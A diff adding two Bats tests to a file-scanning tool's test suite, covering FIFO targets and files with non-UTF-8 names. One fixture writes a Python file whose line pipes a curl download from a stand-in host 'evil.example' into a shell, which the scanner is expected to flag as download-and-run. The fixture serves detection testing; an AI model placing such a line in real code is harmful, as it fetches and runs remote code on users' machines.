@@ -51,3 +51,32 @@ setup() { cd "$BATS_TEST_TMPDIR"; }
 	run -0 --separate-stderr aura-fetch < in
 	assert_jq "$output" '.type == "error" and (.message | test("without a string .target"))'
 }
+
+@test "a FIFO target is refused at once (no hang), in a directory it is skipped; the other targets go on" {
+	mkfifo pipe
+	echo 'x = 1' > ok.py
+	mkdir d && echo 'y = 2' > d/a.py && mkfifo d/fifo
+	run -0 --separate-stderr timeout 20 aura-fetch pipe d ok.py
+	assert_equal "$(printf '%s\n' "$output" | jq -r '.type + " " + .path + " " + (.message // .kind)' | tr '\n' '|')" \
+		'error pipe not a regular file or directory (a FIFO): refused|artifact d directory|artifact ok.py file|'
+	# The whole scan: the FIFO's error, and the other verdicts printed.
+	run -2 --separate-stderr timeout 60 aura scan --format json pipe ok.py
+	assert_jq "$output" '.artifact.name == "ok.py" and .complete'
+	[[ $stderr == *"pipe: not a regular file or directory (a FIFO): refused"* ]]
+}
+
+@test "a target whose name is not UTF-8 is scanned: path_raw carries its bytes to unpack" {
+	name=$(printf 'setup\xff.py')
+	printf 'import os\nos.system("curl -s http://evil.example/x | sh")\n' > "$name"
+	run -0 --separate-stderr aura-fetch "$name"
+	assert_jq "$output" ".path_raw == \"$(printf 'setup\xff.py' | base64)\" and .path == \"setup\\ufffd.py\""
+	run -0 --separate-stderr bash -c 'aura-fetch "$1" | aura-unpack' _ "$name"
+	assert_jq "$(printf '%s\n' "$output" | grep '"artifact_end"')" '.complete and .files == 1'
+	run -1 --separate-stderr aura scan --format json --fail-level high "$name"
+	assert_jq "$output" '.complete and ([.hits[].detection] | index("DownloadAndRun"))'
+	# From stdin: a plain line of bytes, or a target record with target_raw.
+	run -0 --separate-stderr aura-fetch <<<"$name"
+	assert_jq "$output" '.type == "artifact" and .path_raw'
+	run -0 --separate-stderr aura-fetch <<<"{\"type\":\"target\",\"v\":1,\"target_raw\":\"$(printf '%s' "$name" | base64)\"}"
+	assert_jq "$output" '.type == "artifact" and .path_raw'
+}
